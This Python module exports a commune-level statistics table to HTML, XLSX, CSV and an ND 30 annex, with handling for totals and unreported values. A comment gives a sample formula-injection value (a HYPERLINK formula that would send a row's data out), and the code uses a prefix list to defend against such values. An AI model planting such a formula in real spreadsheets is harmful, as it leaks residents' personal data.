"""One table, three outputs: the HTML page, XLSX and CSV downloads, and an ND 30 annex table.

    table = Table(
        title="Kết quả thực hiện chỉ tiêu năm 2026",
        subtitle=["Đơn vị: xã Đồng Phúc"],
        columns=[Column("unit", "Đơn vị"), Column("models", "Số mô hình", "integer"),
                 Column("money", "Số tiền (đồng)", "money"), Column("rate", "Tỷ lệ", "percent")],
        rows=[{"unit": "Thôn Nà Hai", "models": 3, "money": 1_500_000, "rate": 92.5},
              {"unit": "Thôn Bản Cáu", "models": None, ...}],   # None = not reported: shown empty
    )
    table = table.with_totals()          # sums integer and money columns; percent left to the caller
    xlsx_response(table, "Kết quả 2026.xlsx"); csv_response(table, "Kết quả 2026.csv")
    {% include "documents/table.html" with table=table %}

Column kinds: text, integer, money (integer đồng), percent (a number in percent: 92.5 means 92,5%),
date. A value of None means "not reported" and is written as an empty cell, never as 0.
"""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass, field, replace
from decimal import Decimal
from typing import Any, Mapping, Sequence

KINDS = ("text", "integer", "money", "percent", "date")
XLSX_FORMATS = {
    "integer": "#,##0",
    "money": "#,##0",
    "percent": "0.0%",
    "date": "dd/mm/yyyy",
}
TOTALS_LABEL = "Tổng cộng"


@dataclass
class Column:
    key: str
    label: str
    kind: str = "text"
    width: int | None = None  # in characters, for XLSX; guessed when None
    summable: bool = True  # integer/money columns are summed by with_totals(); False for "STT", years

    def __post_init__(self):
        if self.kind not in KINDS:
            raise ValueError(f"unknown column kind {self.kind!r}; one of {KINDS}")

    @property
    def numeric(self) -> bool:
        return self.kind in ("integer", "money", "percent")


Row = Mapping[str, Any] | Sequence[Any]


@dataclass
class Table:
    title: str
    columns: list[Column]
    rows: list[Row] = field(default_factory=list)
    totals: Row | None = None
    subtitle: list[str] = field(default_factory=list)
    note: str = ""  # printed under the table (source, cut-off date)

    def values(self, row: Row) -> list[Any]:
        if isinstance(row, Mapping):
            return [row.get(c.key) for c in self.columns]
        values = list(row)
        return values + [None] * (len(self.columns) - len(values))

    def value_rows(self) -> list[list[Any]]:
        return [self.values(r) for r in self.rows]

    def totals_values(self) -> list[Any] | None:
        return None if self.totals is None else self.values(self.totals)

    def with_totals(self, label: str = TOTALS_LABEL) -> "Table":
        """A copy with a totals row: integer and money columns summed over the reported values (empty
        if none was reported); the first text column carries the label; percent columns stay empty,
        because a rate is recomputed from its numerator and denominator, never added or averaged."""
        totals: dict[str, Any] = {}
        labelled = False
        for i, column in enumerate(self.columns):
            if column.kind in ("integer", "money") and column.summable:
                reported = [v[i] for v in self.value_rows() if v[i] is not None and v[i] != ""]
                totals[column.key] = sum(int(v) for v in reported) if reported else None
            elif column.kind == "text" and not labelled:
                totals[column.key] = label
                labelled = True
            else:
                totals[column.key] = None
        return replace(self, totals=totals)

    def display_rows(self) -> list[list[str]]:
        """Rows as the page shows them (Vietnamese formats; not reported -> '')."""
        return [[display(c, v) for c, v in zip(self.columns, row)] for row in self.value_rows()]

    def display_totals(self) -> list[str] | None:
        totals = self.totals_values()
        return None if totals is None else [display(c, v) for c, v in zip(self.columns, totals)]

    def display_columns(self) -> list[tuple[Column, str]]:
        """(column, CSS class) for templates: "num" for numbers, which align right."""
        return [(c, "num" if c.numeric else "") for c in self.columns]

    def html_rows(self) -> list[list[tuple[str, str]]]:
        """Rows of (text, CSS class) for templates."""
        classes = [cls for _, cls in self.display_columns()]
        return [list(zip(row, classes)) for row in self.display_rows()]

    def html_totals(self) -> list[tuple[str, str]] | None:
        totals = self.display_totals()
        return None if totals is None else list(zip(totals, [cls for _, cls in self.display_columns()]))


def display(column: Column, value: Any) -> str:
    from core.formatting import format_date, format_number, format_percent

    if value is None or value == "":
        return ""
    if column.kind in ("integer", "money"):
        return format_number(value)
    if column.kind == "percent":
        return format_percent(value)
    if column.kind == "date":
        return format_date(value)
    return str(value)


# A text cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets ("formula injection":
# a household head named =HYPERLINK("http://…?"&A1) would send the row away when the file is opened).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(text: str) -> str:
    """CSV: text that a spreadsheet would run as a formula gets a leading apostrophe (shown as text)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def set_text_cell(cell) -> None:
    """XLSX: keep a string that looks like a formula a plain string, marked quote-prefixed as Excel does."""
    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        cell.quotePrefix = True


def append_row(sheet, values) -> None:
    """sheet.append for rows holding user text (templates filled with names): no cell becomes a formula."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        set_text_cell(cell)


def _xlsx_value(column: Column, value: Any) -> Any:
    if value is None or value == "":
        return None
    if column.kind in ("integer", "money"):
        return int(value)
    if column.kind == "percent":
        return float(Decimal(str(value)) / 100)
    if column.kind == "date":
        if isinstance(value, datetime.datetime):
            return value.replace(tzinfo=None)
        return value
    return str(value)


def to_xlsx(table: Table, sheet_title: str = "") -> bytes:
    """An .xlsx with title rows, a bold frozen header, numbers as numbers (totals too, never formulas),
    empty cells where nothing was reported, and print settings for A4 landscape."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    ws.title = _sheet_title(sheet_title or table.title)
    n = len(table.columns)
    thin = Side(style="thin", color="000000")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    font = "Times New Roman"

    row = 1
    if table.title:
        ws.cell(row=row, column=1, value=table.title).font = Font(name=font, bold=True, size=14)
        set_text_cell(ws.cell(row=row, column=1))
        ws.merge_cells(start_row=row, start_column=1, end_row=row, end_column=max(n, 1))
        ws.cell(row=row, column=1).alignment = Alignment(horizontal="center", wrap_text=True)
        row += 1
    for line in table.subtitle:
        ws.cell(row=row, column=1, value=line).font = Font(name=font, italic=True, size=12)
        set_text_cell(ws.cell(row=row, column=1))
        ws.merge_cells(start_row=row, start_column=1, end_row=row, end_column=max(n, 1))
        ws.cell(row=row, column=1).alignment = Alignment(horizontal="center")
        row += 1
    if row > 1:
        row += 1  # blank line before the header

    header_row = row
    for i, column in enumerate(table.columns, start=1):
        cell = ws.cell(row=row, column=i, value=column.label)
        cell.font = Font(name=font, bold=True, size=12)
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        cell.fill = PatternFill("solid", fgColor="E7E6E6")
        cell.border = border

    def write(values, bold=False):
        nonlocal row
        row += 1
        for i, (column, value) in enumerate(zip(table.columns, values), start=1):
            cell = ws.cell(row=row, column=i, value=_xlsx_value(column, value))
            set_text_cell(cell)
            cell.font = Font(name=font, size=12, bold=bold)
            cell.border = border
            if column.kind in XLSX_FORMATS:
                cell.number_format = XLSX_FORMATS[column.kind]
            if column.numeric:
                cell.alignment = Alignment(horizontal="right")
            elif column.kind == "date":
                cell.alignment = Alignment(horizontal="center")
            else:
                cell.alignment = Alignment(wrap_text=True, vertical="top")

    for values in table.value_rows():
        write(values)
    totals = table.totals_values()
    if totals is not None:
        write(totals, bold=True)
    if table.note:
        ws.cell(row=row + 2, column=1, value=table.note).font = Font(name=font, italic=True, size=11)
        set_text_cell(ws.cell(row=row + 2, column=1))

    for i, column in enumerate(table.columns, start=1):
        ws.column_dimensions[get_column_letter(i)].width = column.width or _guess_width(table, i - 1)
    ws.freeze_panes = ws.cell(row=header_row + 1, column=1)
    ws.print_title_rows = f"{header_row}:{header_row}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True

    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _sheet_title(text: str) -> str:
    for ch in "[]:*?/\\":
        text = text.replace(ch, " ")
    return (text.strip() or "Bảng")[:31]


def _guess_width(table: Table, index: int) -> float:
    column = table.columns[index]
    longest_word = max((len(w) for w in column.label.split()), default=4)
    values = [display(column, v[index]) for v in table.value_rows()[:500]]
    widest = max([len(v) for v in values] + [min(len(column.label), 16), longest_word])
    return min(max(widest + 2, 8), 60)


def to_csv(table: Table) -> bytes:
    """UTF-8 with a BOM (so Excel reads the diacritics), comma separated, header row then rows and
    totals. Numbers are plain machine values (1500000, 92.5), dates dd/mm/yyyy, not reported empty."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([c.label for c in table.columns])
    rows = table.value_rows()
    totals = table.totals_values()
    if totals is not None:
        rows = rows + [totals]
    for values in rows:
        writer.writerow([_csv_value(c, v) for c, v in zip(table.columns, values)])
    return "\ufeff".encode("utf-8") + buffer.getvalue().encode("utf-8")


def _csv_value(column: Column, value: Any) -> str:
    if value is None or value == "":
        return ""
    if column.kind in ("integer", "money"):
        return str(int(value))
    if column.kind == "percent":
        return format(Decimal(str(value)).normalize(), "f")
    if column.kind == "date":
        from core.formatting import format_date

        return format_date(value)
    return neutralise_formula(str(value))


def to_nd30(table: Table, widths: Sequence[float] | None = None):
    """The same table as a block of an ND 30 document (e.g. a landscape annex of a report)."""
    from documents.nd30 import TableBlock

    align = ["center" if c.kind == "date" or (c.kind == "integer" and not c.summable)
             else "right" if c.numeric else "left" for c in table.columns]
    rows = table.display_rows()
    totals = table.display_totals()
    if totals is not None:
        rows.append(totals)
    return TableBlock(
        header_rows=[[c.label for c in table.columns]], rows=rows, widths=widths, align=align,
        bold_last_row=totals is not None,
    )


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(table: Table, filename: str):
    from documents.responses import file_response

    return file_response(to_xlsx(table), filename, XLSX_CONTENT_TYPE, ".xlsx")


def csv_response(table: Table, filename: str):
    from documents.responses import file_response

    return file_response(to_csv(table), filename, "text/csv; charset=utf-8", ".csv")
